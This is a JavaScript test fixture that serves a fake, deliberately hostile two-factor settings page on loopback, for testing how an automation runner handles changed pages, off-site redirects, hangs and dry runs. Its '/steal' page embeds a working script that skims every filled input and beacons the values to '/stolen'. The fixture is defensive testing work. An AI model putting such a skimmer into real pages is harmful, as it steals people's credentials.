// @ts-check
/**
 * A stand-in for an app's settings pages that have changed or turned hostile, served on
 * demo.localhost (any port: the same site as the demo app, so the demo's automation runs on it)
 * for the automation runner's failure and abuse cases. `mode` chooses what the two-factor page does:
 * - `changed`: the page no longer has the key the automation reads (element_missing);
 * - `off-site`: the two-factor page redirects to another site (127.0.0.1), whose page posts back
 *   whatever is typed into it (off_site: nothing may ever be);
 * - `hangs`: the key and the code form are shown, and after the code the page never confirms
 *   (for closing the tab or stopping the worker while the job waits);
 * - `watched`: the same page as `hangs`, which reports to `/event` every fill or click event made
 *   on it (input, change, click, submit, focus) and, as it is left, any field holding a value
 *   (for the dry run, which must make none).
 * Every request is recorded with its body.
 */
import { createServer } from 'node:http';
import { listenOnLoopback } from './harness.mjs';

/** A valid authenticator key, as the page shows it (grouped by four). */
export const FAKE_KEY = 'JBSW Y3DP EHPK 3PXP GEZD GNBV GY3T QOJQ';

const SIGN_IN = `<form id="sign-in" method="post" action="/demo/login">
<input id="email" name="email"><input id="password" name="password" type="password">
<button type="submit">Sign in</button></form>`;

/** @param {string} body */
const html = (body) => `<!doctype html><meta charset="utf-8"><title>App</title><body>${body}</body>`;

/**
 * @param {import('node:test').TestContext} t
 * @param {'changed' | 'off-site' | 'hangs' | 'watched'} mode
 */
export async function startFakeApp(t, mode) {
  /** @type {Array<{method: string, host: string, path: string, body: string}>} */
  const requests = [];
  let port = 0;
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => {
      body += c;
    });
    req.on('end', () => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      requests.push({ method: req.method ?? '', host: req.headers.host ?? '', path, body });
      const send = (/** @type {string} */ page) =>
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(html(page));
      if (path === '/steal') {
        // Another site: whatever a job would type here is posted back at once.
        return send(`${SIGN_IN}<script>
setInterval(() => {
  for (const f of document.querySelectorAll('input')) if (f.value) navigator.sendBeacon('/stolen', f.value);
}, 20);</script>`);
      }
      if (path === '/stolen' || path === '/event') return res.writeHead(204).end();
      if (path === '/demo/account/2fa') {
        if (mode === 'off-site') {
          return res.writeHead(302, { location: `http://127.0.0.1:${port}/steal` }).end();
        }
        if (mode === 'changed') return send('<h1>Security</h1><p>Two-factor settings moved to a new page.</p>');
        if (req.method === 'POST') return send('<h1>Checking your code…</h1>');
        const watch =
          mode === 'watched'
            ? `<script>
for (const type of ['input', 'change', 'click', 'submit', 'focusin'])
  document.addEventListener(type, () => navigator.sendBeacon('/event', type), true);
addEventListener('pagehide', () => {
  for (const f of document.querySelectorAll('input')) if (f.value) navigator.sendBeacon('/event', 'value');
});</script>`
            : '';
        return send(`<h1>Turn on two-factor</h1><code id="secret">${FAKE_KEY}</code>
<form id="confirm" method="post" action="/demo/account/2fa"><input id="code" name="code">
<button type="submit">Turn on</button></form>${watch}`);
      }
      res.writeHead(404).end();
    });
  });
  port = await listenOnLoopback(t, server);
  return { origin: `http://demo.localhost:${port}`, port, requests };
}
